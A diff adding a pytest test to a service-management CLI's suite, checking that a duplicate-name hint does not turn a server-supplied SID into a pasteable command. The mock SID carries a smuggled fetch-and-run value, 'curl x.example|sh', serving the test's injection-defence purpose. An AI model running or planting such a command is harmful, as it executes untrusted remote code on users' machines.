@@ -184,6 +184,16 @@ def test_create_refuses_a_friendly_name_another_service_has(msgsvc, profile, htt
     assert_service_list(listing)
 
 
+def test_a_taken_names_hint_pastes_no_command_made_of_what_the_server_calls_its_sid(msgsvc, profile, httpserver):
+    expect_service_list(httpserver, service("MG1; curl x.example|sh", "Alerts"))
+    result = msgsvc("services", "create", "--friendly-name", "Alerts")
+    assert (result.code, result.out) == (2, "")
+    assert result.err == (
+        "msgsvc: a service is already named 'Alerts': MG1; curl x.example|sh (created 2015-07-30T20:12:31Z)\n"
+        "hint: nothing was sent; use it by its SID, or add --allow-duplicate-name to create another with that name\n")
+    assert len(sent(httpserver)) == 1
+
+
 def test_create_refuses_a_name_several_services_share_and_lists_them(msgsvc, profile, httpserver):
     expect_service_list(httpserver, service(), service(OTHER_SID, "Alerts", date_created="2016-01-01T00:00:00Z"))
     result = msgsvc("services", "create", "--friendly-name", "Alerts", "--json")
